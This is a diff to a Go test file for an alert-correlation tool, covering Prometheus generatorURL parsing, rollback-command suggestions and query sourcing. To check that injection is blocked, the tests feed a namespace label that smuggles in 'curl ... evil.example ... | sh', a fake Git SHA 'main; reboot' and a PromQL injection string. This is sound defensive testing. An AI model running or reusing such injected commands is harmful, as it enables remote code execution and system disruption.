@@ -4,7 +4,9 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -179,19 +181,155 @@ func TestBudget(t *testing.T) {
 }
 
 func TestExprFromGeneratorURL(t *testing.T) {
-	for in, want := range map[string]string{
-		"http://prometheus:9090/graph?g0.expr=sum+by+%28service%29+%28rate%28x%5B20s%5D%29%29+%3E+0.008&g0.tab=1": "sum by (service) (rate(x[20s]))",
-		"http://prometheus:9090/query?g0.expr=up":                                 "up",
-		"http://prometheus:9090/graph?g0.expr=a+%3E%3D+bool+1":                    "a",
-		"http://prometheus:9090/graph?g0.expr=rate%28x%5B5m%5D%29+%3E+on%28%29+y": "rate(x[5m]) > on() y",
-	} {
-		if got, ok := correlate.ExprFromGeneratorURL(in); !ok || got != want {
-			t.Errorf("%s: %q %v, want %q", in, got, ok, want)
+	t.Parallel()
+	tests := []struct {
+		url, want string
+		ok        bool
+	}{
+		{"http://prometheus:9090/graph?g0.expr=sum+by+%28service%29+%28rate%28x%5B20s%5D%29%29+%3E+0.008&g0.tab=1", "sum by (service) (rate(x[20s]))", true},
+		{"http://prometheus:9090/query?g0.expr=up", "up", true},
+		{"http://prometheus:9090/graph?g0.expr=a+%3E%3D+bool+1", "a", true},
+		{"http://prometheus:9090/graph?g0.expr=rate%28x%5B5m%5D%29+%3E+on%28%29+y", "rate(x[5m]) > on() y", true},
+		{"http://prometheus:9090/graph?g0.expr=up+%3D%3D+0&g0.tab=1", "up", true},
+		{"http://prometheus:9090/query?g0.expr=sum%28rate%28x%5B5m%5D%29%29&g0.tab=table", "sum(rate(x[5m]))", true},
+		{"https://example.com/prometheus/graph?g0.expr=rate%28http_requests_total%7Bcode%3D~%225..%22%7D%5B5m%5D%29+%3E+0.05&g0.tab=1",
+			`rate(http_requests_total{code=~"5.."}[5m])`, true},
+		{"http://p/graph?g0.expr=sum+by+%28job%29+%28%0A++up%0A%29%0A", "sum by (job) (\n  up\n)", true},
+		{"http://p/graph?g0.expr=up&bad=%zz", "up", true},
+		{"http://p/graph?g0.tab=1", "", false},
+		{"http://p/graph?g0.expr=", "", false},
+		{"http://grafana/alerting/grafana/abc/view?g0.expr=up", "", false},
+		{"http://grafana/x", "", false},
+		{"", "", false},
+		{"::not a url", "", false},
+	}
+	for _, tt := range tests {
+		got, ok := correlate.ExprFromGeneratorURL(tt.url)
+		if got != tt.want || ok != tt.ok {
+			t.Errorf("ExprFromGeneratorURL(%q) = %q, %v; want %q, %v", tt.url, got, ok, tt.want, tt.ok)
 		}
 	}
-	for _, in := range []string{"", "http://grafana/x", "::bad"} {
-		if got, ok := correlate.ExprFromGeneratorURL(in); ok {
-			t.Errorf("%q: %q, want none", in, got)
+}
+
+// A rollback command is suggested only when every value in it is of its
+// kind: a namespace label holding a shell command withholds it, and says
+// why.
+func TestRollbackWithheld(t *testing.T) {
+	t.Parallel()
+	now := start.Add(20 * time.Minute)
+	g := correlate.New(correlate.Sources{Deploys: deploys}, correlate.Options{Now: func() time.Time { return now }})
+	in := input("payment-gateway")
+	in.Rule.Rollback.Command = "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}} --to-revision={{.TargetRevision}}"
+	in.Alerts[0].Labels["namespace"] = "payments"
+	ev, _ := g.Gather(context.Background(), in)
+	if ev.Rollback != "kubectl -n payments rollout undo deploy/payment-gateway --to-revision=1111111aaaaaaa" || ev.RollbackWithheld != "" {
+		t.Errorf("good namespace: rollback %q withheld %q", ev.Rollback, ev.RollbackWithheld)
+	}
+
+	in = input("payment-gateway")
+	in.Rule.Rollback.Command = "kubectl -n {{.Namespace}} rollout undo deploy/{{.Service}}"
+	in.Alerts[0].Labels["namespace"] = "prod; curl -s https://evil.example/x | sh #"
+	ev, _ = g.Gather(context.Background(), in)
+	want := `rollback suggestion withheld: namespace "prod; curl -s https://evil.example/x | sh #" is not a Kubernetes name`
+	if ev.Rollback != "" || ev.RollbackWithheld != want {
+		t.Errorf("hostile namespace: rollback %q withheld %q, want none and %q", ev.Rollback, ev.RollbackWithheld, want)
+	}
+	if ev.Suspect == nil || ev.Target == nil {
+		t.Errorf("the suspect and target stay known: %+v %+v", ev.Suspect, ev.Target)
+	}
+
+	// A deploy recorded before SHAs were checked cannot reach the command
+	// or the diff link either.
+	odd := deployList{
+		{ID: 1, Service: "payment-gateway", Env: "prod", SHA: "main; reboot", FinishedAt: start.Add(-3 * time.Hour)},
+		{ID: 2, Service: "payment-gateway", Env: "prod", SHA: "2222222bbbbbbb", FinishedAt: start.Add(-12 * time.Minute)},
+	}
+	g = correlate.New(correlate.Sources{Deploys: odd}, correlate.Options{Now: func() time.Time { return now },
+		CompareURL: "https://github.com/example/{{.Service}}/compare/{{.TargetRevision}}...{{.Revision}}"})
+	ev, _ = g.Gather(context.Background(), input("payment-gateway"))
+	if ev.Rollback != "" || !strings.Contains(ev.RollbackWithheld, `target revision "main; reboot" is not a Git SHA`) || ev.CompareURL != "" {
+		t.Errorf("odd SHA: rollback %q withheld %q compare %q", ev.Rollback, ev.RollbackWithheld, ev.CompareURL)
+	}
+}
+
+// queryLog is a Metrics that records every expression asked.
+type queryLog struct {
+	mu    sync.Mutex
+	exprs []string
+}
+
+func (q *queryLog) Value(_ context.Context, expr string, _ time.Time) (float64, bool, error) {
+	q.mu.Lock()
+	defer q.mu.Unlock()
+	q.exprs = append(q.exprs, expr)
+	return 0.02, true, nil
+}
+
+func (q *queryLog) asked() []string {
+	q.mu.Lock()
+	defer q.mu.Unlock()
+	return slices.Clone(q.exprs)
+}
+
+// Prometheus is asked what the configuration says: the rule's query with
+// the alert's values as escaped string literals, or an allowed expression;
+// never what the alert's generatorURL says on its own.
+func TestQueryFromConfigOnly(t *testing.T) {
+	t.Parallel()
+	now := start.Add(20 * time.Minute)
+	const gen = "http://prometheus:9090/graph?g0.expr=count%28up%29+%3E+0&g0.tab=1"
+	noQuery := func() correlate.Input {
+		in := input("payment-gateway")
+		in.Rule.Value.Query = ""
+		in.Alerts[0].GeneratorURL = gen
+		return in
+	}
+	tests := []struct {
+		name    string
+		in      correlate.Input
+		allowed []string
+		asked   []string
+		problem string
+	}{
+		{"generatorURL not allowed", noQuery(), nil, nil,
+			"Prometheus: not asked: the alert's query is not in prometheus.allowed_queries, and the rule has no value.query"},
+		{"generatorURL allowed", noQuery(), []string{"count(up)"}, []string{"count(up)", "count(up)"}, ""},
+		{"rule query escapes the label", func() correlate.Input {
+			in := input("payment-gateway")
+			in.Alerts[0].Labels["service"] = `x"} or vector(1) or up{a="`
+			in.Alerts[0].GeneratorURL = gen
+			return in
+		}(), nil, []string{`sum(rate(errors{service="x\"} or vector(1) or up{a=\""}[5m]))`, `sum(rate(errors{service="x\"} or vector(1) or up{a=\""}[5m]))`}, ""},
+		{"no query, no generatorURL", func() correlate.Input { in := noQuery(); in.Alerts[0].GeneratorURL = ""; return in }(), nil, nil, ""},
+	}
+	for _, tt := range tests {
+		log := &queryLog{}
+		g := correlate.New(correlate.Sources{Prometheus: log}, correlate.Options{Now: func() time.Time { return now }, AllowedQueries: tt.allowed})
+		ev, late := g.Gather(context.Background(), tt.in)
+		if late != nil {
+			ev = late()
+		}
+		if got := log.asked(); fmt.Sprint(got) != fmt.Sprint(tt.asked) {
+			t.Errorf("%s: asked %q, want %q", tt.name, got, tt.asked)
+		}
+		var problems []string
+		for _, p := range ev.Problems {
+			if strings.HasPrefix(p, "Prometheus") {
+				problems = append(problems, p)
+			}
+		}
+		if want := []string{tt.problem}; (tt.problem == "" && len(problems) > 0) || (tt.problem != "" && fmt.Sprint(problems) != fmt.Sprint(want)) {
+			t.Errorf("%s: problems %q, want %q", tt.name, problems, tt.problem)
+		}
+		_, _, ok, err := g.ValueNow(context.Background(), tt.in)
+		if tt.asked == nil && ok {
+			t.Errorf("%s: ValueNow asked Prometheus", tt.name)
+		}
+		if tt.problem != "" && err == nil {
+			t.Errorf("%s: ValueNow gave no reason", tt.name)
+		}
+		if n := len(log.asked()); tt.asked == nil && n > 0 {
+			t.Errorf("%s: ValueNow asked %q", tt.name, log.asked())
 		}
 	}
 }
